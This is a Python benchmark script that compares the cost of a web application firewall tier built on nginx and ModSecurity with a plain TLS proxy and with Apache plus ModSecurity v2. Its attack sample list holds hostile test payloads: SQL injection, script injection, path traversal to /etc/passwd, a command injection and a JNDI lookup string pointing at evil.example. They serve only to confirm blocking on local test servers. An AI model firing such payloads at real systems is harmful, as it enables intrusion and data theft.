"""The firewall tier: what it costs, which engine to run, and what issue 18 changed.

In front of one fixed-response upstream (nginx serving seat-map-shaped bytes), each over
TLS with 2 workers, wrk GETs with 64 connections:

  (1) the upstream alone                        the ceiling
  (2) nginx TLS proxy, no WAF                   what TLS and proxying cost
  (3) lastseat's firewall tier, as generated    the seat map (its positive model and
                                                microcache) and an inspected API GET
  (3') the same tier as generated before issue 18 (bench/firewall_cpu.py: BEFORE)
  (4) Apache httpd (event MPM) + ModSecurity v2 + the same CRS and exclusions

Then the CPU of (3)'s workers per inspected request against (3')'s, in the same run, for a
GET with a query, a JSON POST and a sign-in (and, without --quick, the instructions per
request under callgrind: a count the machine's other load does not change). A sample of
attacks is sent to (3), (3') and (4): each must block every one.

    python bench/firewall.py [--quick]

Writes var/bench/firewall.json (with the `measures` of bench/report.py) and prints a table.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import httpx
from rich.console import Console
from rich.table import Table

from lastseat.config import Settings
from lastseat.stack import nginx
from lastseat.stack.ports import free_port, free_udp_and_tcp_port
from lastseat.stack.tls import ensure_certificates

sys.path.insert(0, str(Path(__file__).resolve().parent))
import firewall_cpu
from firewall_cpu import SHAPES
from firewall_tiers import APACHE_MODULES, apache_conf, plain_proxy_conf, upstream_conf, wait_port
from run import Process, parse_wrk

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
console = Console(width=140)
SEAT_MAP = "/api/v1/flights/7/seats"
INSPECTED = "/api/v1/flights?origin=LHR&destination=JFK&date=2031-03-01"
# (the last four on the seat map's path, off its model: inspected as any request)
ATTACK_SAMPLE = [
    "/api/v1/flights?origin=' OR 1=1--",
    "/api/v1/flights?q=<script>alert(1)</script>",
    "/api/v1/flights?file=../../../../etc/passwd",
    "/api/v1/flights?cmd=;cat /etc/passwd",
    "/api/v1/flights?q=${jndi:ldap://evil.example/a}",
    SEAT_MAP + "?q=' UNION SELECT password FROM users--",
    SEAT_MAP + "?q=<script>alert(1)</script>",
    SEAT_MAP + "?file=../../../../etc/passwd",
    "/api/v1/flights/7/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
]
SEAT_MAP_TARGET = 0.35  # of the TLS proxy: the whole stack's target for the seat map (issue 18)
CPU_TARGET = 0.70  # of the config before issue 18: 30% less


def wrk(url: str, seconds: int, connections: int) -> dict[str, float]:
    out = subprocess.run(
        ["wrk", "-t", "2", "-c", str(connections), "-d", f"{seconds}s", "--latency",
         "-H", "Host: lastseat.test", url],
        capture_output=True, text=True, check=True, timeout=seconds + 60,
    ).stdout  # fmt: skip
    return parse_wrk(out)


async def blocked(url: str) -> list[int]:
    async with httpx.AsyncClient(verify=False, headers={"Host": "lastseat.test"}) as client:  # noqa: S501
        return [(await client.get(url + path)).status_code for path in ATTACK_SAMPLE]


def firewall_settings(folder: Path, https: int, upstream: int) -> Settings:
    return Settings(
        _env_file=None,
        stack_dir=folder,
        https_port=https,
        http_port=free_port(),
        proxy_port=upstream,
        proxy_grpc_port=free_port(),
        doh_port=free_port(),
        nginx_workers=2,
        rate_limit_per_second=1_000_000,
        rate_limit_burst=1_000_000,
        connections_per_address=60_000,
    )


def measure(
    name: str,
    value: float,
    unit: str,
    ceiling_name: str | None,
    ceiling: float | None,
    target: str,
    met: bool | None,
) -> dict[str, Any]:
    ratio = None if ceiling is None else value / ceiling
    return {
        "name": name,
        "value": round(value, 3),
        "unit": unit,
        "ceiling_name": ceiling_name,
        "ceiling": None if ceiling is None else round(ceiling, 3),
        "ratio": None if ratio is None else round(ratio, 3),
        "target": target,
        "met": met,
    }


class Bench:
    """The processes of one run, stopped in reverse order by `close`."""

    def __init__(self, work: Path) -> None:
        self.work = work
        self.processes: list[Process] = []

    def nginx(self, conf: Path, name: str, env: dict[str, str] | None = None) -> Process:
        log = self.work / f"{name}.log"
        process = Process(nginx.nginx_command(conf), env or dict(os.environ), log)
        self.processes.append(process)
        return process

    def firewall(
        self, name: str, upstream: int, certs: Any, before: bool
    ) -> tuple[int, Path, Process]:
        """The firewall of `name` (firewall_cpu.CONFIGS) in front of `upstream`."""
        port = free_port()
        settings = firewall_settings(self.work / name, port, upstream)
        write = firewall_cpu.write_before if before else nginx.write_firewall
        # (its log lines go to a port no log tier listens on: sent, not written)
        conf = write(settings, certs, free_udp_and_tcp_port())
        process = self.nginx(conf, name, firewall_cpu.environment(name))
        wait_port(f"https://127.0.0.1:{port}/")
        return port, conf, process

    def close(self) -> None:
        for process in reversed(self.processes):
            process.stop()


def cpu_rounds(
    bench: Bench,
    firewalls: dict[str, tuple[int, Callable[[], list[int]]]],
    rounds: int,
    seconds: int,
) -> dict[str, dict[str, Any]]:
    """Per shape and config: the median of `rounds` interleaved runs (before, after, before,
    ...), so all meet the same moments of the machine's other load; every run kept.
    `firewalls`: per config, its port and a function giving the pids of its workers."""
    runs: dict[str, dict[str, list[float]]] = {}
    for shape in SHAPES:
        script = firewall_cpu.wrk_script(bench.work, shape)
        runs[shape.name] = {config: [] for config in firewalls}
        for _ in range(rounds):
            for config, (port, pids_of) in firewalls.items():
                pids = pids_of()
                micros, _count = firewall_cpu.cpu_per_request(
                    f"https://127.0.0.1:{port}", script, pids, seconds
                )
                runs[shape.name][config].append(round(micros, 1))
    return {
        shape: {
            config: {"median_us": statistics.median(values), "runs_us": values}
            for config, values in configs.items()
        }
        for shape, configs in runs.items()
    }


def apache_children(parent: int) -> list[int]:
    """Apache's child processes (each with its threads: /proc/PID/stat counts them all)."""
    out = subprocess.run(["pgrep", "-P", str(parent)], capture_output=True, text=True).stdout
    return [int(pid) for pid in out.split()]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--quick", action="store_true", help="shorter runs, no Apache, no callgrind"
    )
    parser.add_argument("--seconds", type=int, default=None)
    parser.add_argument("--connections", type=int, default=64)
    args = parser.parse_args()
    seconds = args.seconds or (1 if args.quick else 10)
    rounds = 1 if args.quick else 3
    apache = not args.quick
    if apache and (
        shutil.which("apache2") is None or not (APACHE_MODULES / "mod_security2.so").exists()
    ):
        sys.exit(
            "Apache httpd with mod_security2 is missing: apt-get install apache2 "
            "libapache2-mod-security2 (or run with --quick)"
        )
    (ROOT / "var").mkdir(exist_ok=True)
    work = Path(tempfile.mkdtemp(prefix="firewall-bench-", dir=ROOT / "var"))
    work.chmod(0o755)
    bench = Bench(work)
    results: dict[str, dict[str, float]] = {}
    blocks: dict[str, list[int]] = {}
    cpu: dict[str, dict[str, Any]] = {}
    instructions: dict[str, dict[str, float]] = {}
    started = time.monotonic()
    try:
        body = json.dumps(
            {
                "flight_id": 1,
                "seats": [
                    {
                        "seat": f"{r}{c}",
                        "cabin": "economy",
                        "status": "available",
                        "price": {"amount": 12345, "currency": "EUR"},
                    }
                    for r in range(1, 31)
                    for c in "ABCDEF"
                ],
            }
        ).encode()
        upstream = free_port()
        bench.nginx(upstream_conf(work / "upstream", upstream, body), "upstream")
        wait_port(f"http://127.0.0.1:{upstream}/")
        certs = ensure_certificates(work / "tls", "lastseat.test")

        console.print("(1) the upstream alone")
        results["upstream"] = wrk(
            f"http://127.0.0.1:{upstream}{SEAT_MAP}", seconds, args.connections
        )

        plain = free_port()
        bench.nginx(
            plain_proxy_conf(work / "plain", plain, upstream, certs.cert, certs.key), "plain"
        )
        wait_port(f"https://127.0.0.1:{plain}/")
        console.print("(2) nginx TLS proxy, no WAF")
        results["nginx_tls_proxy"] = wrk(
            f"https://127.0.0.1:{plain}{SEAT_MAP}", seconds, args.connections
        )

        started_firewalls = {
            config: bench.firewall(config, upstream, certs, before=config == "before")
            for config in firewall_cpu.CONFIGS
        }
        after, after_conf, _ = started_firewalls["after"]
        before = started_firewalls["before"][0]
        for name, port in (("firewall", after), ("firewall_before_issue_18", before)):
            console.print(f"(3) {name}: the seat map, and an inspected GET")
            results[f"{name}_seat_map"] = wrk(
                f"https://127.0.0.1:{port}{SEAT_MAP}", seconds, args.connections
            )
            results[f"{name}_inspected_get"] = wrk(
                f"https://127.0.0.1:{port}{INSPECTED}", seconds, args.connections
            )
            blocks[name] = asyncio.run(blocked(f"https://127.0.0.1:{port}"))

        firewalls: dict[str, tuple[int, Callable[[], list[int]]]] = {
            config: (port, partial(firewall_cpu.workers, process.proc.pid))
            for config, (port, _, process) in started_firewalls.items()
        }
        if apache:
            v2 = free_port()
            (work / "apache").mkdir()
            rules = after_conf.parent / "modsecurity.conf"  # the very same as (3)
            conf = apache_conf(work / "apache", v2, upstream, rules, certs.cert, certs.key)
            process = Process(
                ["apache2", "-f", str(conf), "-DFOREGROUND"], dict(os.environ), work / "apache.log"
            )
            bench.processes.append(process)
            wait_port(f"https://127.0.0.1:{v2}/")
            firewalls["apache_modsecurity_v2"] = (v2, lambda: apache_children(process.proc.pid))
        console.print("(3) CPU per inspected request, interleaved: " + ", ".join(firewalls))
        cpu = cpu_rounds(bench, firewalls, rounds, seconds)
        if not args.quick:
            console.print("(3) instructions per inspected request (callgrind), before and after")
            for config, (port, _, process) in started_firewalls.items():
                process.stop()
                instructions[config] = firewall_cpu.instructions_per_request(
                    work / config / "firewall" / "nginx.conf", port, SHAPES, 30,
                    work / f"callgrind-{config}.log", firewall_cpu.environment(config),
                )  # fmt: skip

        if apache:
            console.print("(4) Apache httpd + ModSecurity v2 + CRS (every request inspected)")
            results["apache_modsecurity_v2_seat_map"] = wrk(
                f"https://127.0.0.1:{v2}{SEAT_MAP}", seconds, args.connections
            )
            results["apache_modsecurity_v2_inspected_get"] = wrk(
                f"https://127.0.0.1:{v2}{INSPECTED}", seconds, args.connections
            )
            blocks["apache_modsecurity_v2"] = asyncio.run(blocked(f"https://127.0.0.1:{v2}"))
    finally:
        bench.close()
        shutil.rmtree(work, ignore_errors=True)
    report(results, blocks, cpu, instructions, time.monotonic() - started, args.quick)


def report(
    results: dict[str, dict[str, float]],
    blocks: dict[str, list[int]],
    cpu: dict[str, dict[str, Any]],
    instructions: dict[str, dict[str, float]],
    elapsed: float,
    quick: bool,
) -> None:
    table = Table(title="firewall tier (over TLS, 2 workers, wrk -c64)")
    for column in ("tier", "req/s", "p50 ms", "p99 ms", "of the TLS proxy", "attacks blocked"):
        table.add_column(column)
    proxy = results["nginx_tls_proxy"]["requests_per_s"]
    for name, stats in results.items():
        codes = blocks.get(name.removesuffix("_seat_map").removesuffix("_inspected_get"))
        table.add_row(
            name,
            f"{stats['requests_per_s']:.0f}",
            f"{stats.get('p50_ms', 0):.1f}",
            f"{stats.get('p99_ms', 0):.1f}",
            f"{stats['requests_per_s'] / proxy:.3f}",
            "" if codes is None else f"{sum(c == 403 for c in codes)}/{len(codes)}",
        )
    console.print(table)
    seat_map = results["firewall_seat_map"]["requests_per_s"]
    measures = [
        measure(
            "firewall tier seat-map GET, TLS",
            seat_map,
            "req/s",
            "nginx TLS proxy without WAF",
            proxy,
            f"ratio >= {SEAT_MAP_TARGET}",
            seat_map / proxy >= SEAT_MAP_TARGET,
        ),
        measure(
            "firewall tier inspected GET (flights search), TLS",
            results["firewall_inspected_get"]["requests_per_s"],
            "req/s",
            "nginx TLS proxy without WAF",
            proxy,
            "none (every rule runs)",
            None,
        ),
    ]
    for shape, configs in cpu.items():
        after, before = configs["after"]["median_us"], configs["before"]["median_us"]
        measures.append(
            measure(
                f"CPU per inspected request, {shape}",
                after,
                "us",
                "the config before issue 18, same run",
                before,
                f"ratio <= {CPU_TARGET}",
                after / before <= CPU_TARGET,
            )
        )
        glibc = configs["after_glibc"]["median_us"]
        measures.append(allocator_context("CPU per inspected request", shape, glibc, before, "us"))
    for shape, configs in cpu.items():
        if "apache_modsecurity_v2" in configs:
            apache = configs["apache_modsecurity_v2"]["median_us"]
            nginx_v3 = configs["after"]["median_us"]
            measures.append(
                measure(
                    f"CPU per inspected request, {shape}, Apache httpd + ModSecurity v2",
                    apache,
                    "us",
                    "nginx + ModSecurity v3, same config, same run",
                    nginx_v3,
                    "none (below 1: Apache costs less)",
                    None,
                )
            )
    for shape, after in instructions.get("after", {}).items():
        before = instructions["before"][shape]
        measures.append(
            measure(
                f"instructions per inspected request, {shape}",
                after,
                "instructions",
                "the config before issue 18, same run",
                before,
                f"ratio <= {CPU_TARGET}",
                after / before <= CPU_TARGET,
            )
        )
        glibc = instructions["after_glibc"][shape]
        what = "instructions per inspected request"
        measures.append(allocator_context(what, shape, glibc, before, "instructions"))
    for name, codes in blocks.items():
        refused = sum(code == 403 for code in codes)
        measures.append(
            measure(
                f"attack sample refused, {name}",
                refused,
                f"of {len(codes)}",
                None,
                None,
                "all",
                refused == len(codes),
            )
        )
    details = {
        "results": results,
        "blocked": blocks,
        "cpu_per_request": cpu,
        "instructions_per_request": instructions,
        "quick": quick,
        "seconds": round(elapsed, 1),
        "before": firewall_cpu.BEFORE,
    }
    out = ROOT / "var" / "bench"
    out.mkdir(parents=True, exist_ok=True)
    (out / "firewall.json").write_text(json.dumps({**details, "measures": measures}, indent=2))
    for item in measures:
        console.print(
            f"{item['name']}: {item['value']} {item['unit']}"
            + (f" = {item['ratio']} of {item['ceiling_name']}" if item["ratio"] is not None else "")
            + f" (target {item['target']}: {item['met']})"
        )


def allocator_context(
    what: str, shape: str, glibc: float, before: float, unit: str
) -> dict[str, Any]:
    """The config of now on glibc's malloc (`glibc`) against the one before issue 18: what
    the rules and exclusions saved alone, without jemalloc (context, no target)."""
    return measure(
        f"{what}, {shape}, this config on glibc's malloc",
        glibc,
        unit,
        "the config before issue 18, same run",
        before,
        "none (the allocator's share: against the row above)",
        None,
    )


if __name__ == "__main__":
    main()
